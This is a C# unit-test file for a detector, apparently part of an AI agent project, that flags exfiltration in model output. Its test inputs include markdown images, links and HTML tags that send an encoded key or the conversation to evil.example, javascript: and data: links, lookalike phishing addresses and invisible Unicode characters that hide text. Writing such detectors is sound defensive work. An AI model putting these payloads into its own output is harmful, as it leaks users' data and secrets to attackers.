using Atellagent.Domain.Detectors.Exfiltration;

namespace Atellagent.Domain.Tests.Detectors;

public sealed class ExfiltrationDetectorTests
{
    private const string Blob = "eyJ1c2VyIjoiYW5uIiwia2V5IjoiYWJjZGVmZ2hpamtsbW5vcCJ9";
    private static readonly ExfiltrationDetector Detector = new();

    [Theory]
    [InlineData("![x](https://evil.example/p.png?d=" + Blob + ")", "exfiltration.image")]
    [InlineData("![x](https://evil.example/" + Blob + ".png)", "exfiltration.image")]
    [InlineData("![x](https://evil.example/?q={{conversation}})", "exfiltration.image")]
    [InlineData("![x](//" + Blob + ".evil.example/a.png)", "exfiltration.image")]
    [InlineData("[more](https://evil.example/?d=" + Blob + ")", "exfiltration.link")]
    [InlineData("<img src='https://evil.example/c?q=" + Blob + "'>", "exfiltration.html")]
    [InlineData("<IFRAME\nSRC=https://evil.example/c?q=" + Blob + ">", "exfiltration.html")]
    [InlineData("[here](javascript:alert(1))", "exfiltration.scheme")]
    [InlineData("[here](data:text/html;base64,PHNjcmlwdD4=)", "exfiltration.scheme")]
    [InlineData("[sign in](http://192.0.2.7/a)", "exfiltration.destination")]
    [InlineData("[sign in](https://xn--pypal-4ve.com/)", "exfiltration.destination")]
    [InlineData("[sign in](http://bank.example@3221225991/)", "exfiltration.destination")]
    public void Finds(string text, string kind) => Assert.Equal(kind, Detector.Kinds("Look: " + text + " and so on."));

    [Theory]
    [InlineData("![chart](https://img.example/sales/2026/chart-of-the-first-quarter.png)")]
    [InlineData("[docs](https://docs.example/guide?lang=en&version=2026-07-28#section-about-the-things)")]
    [InlineData("[local](http://127.0.0.1:8080/health)")]
    [InlineData("<img src=\"logo.svg\">")]
    [InlineData("<p>text</p> and a < b")]
    [InlineData("sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")]
    public void Leaves_what_is_harmless(string text) => Assert.Empty(Detector.Look(text));

    [Fact]
    public void Finds_much_encoded_data()
    {
        byte[] data = [.. Enumerable.Range(0, 600).Select(static i => (byte)(((i * 7919) >> 3) & 0xff))];

        Assert.Equal("exfiltration.blob", Detector.Kinds("here: " + Convert.ToBase64String(data)));
        Assert.Equal("exfiltration.blob", Detector.Kinds("here: " + Convert.ToHexString(data)));
        Assert.Empty(Detector.Look(new string('a', 4000)));
    }

    [Theory]
    [InlineData(0xE0041)]
    [InlineData(0xE0110)]
    [InlineData(0xFE01)]
    [InlineData(0x200B)]
    public void Finds_text_in_characters_that_nobody_sees(int point) =>
        Assert.Equal("exfiltration.hidden", Detector.Kinds("Fine 😀" + string.Concat(Enumerable.Repeat(char.ConvertFromUtf32(point), 12)) + " day."));
}
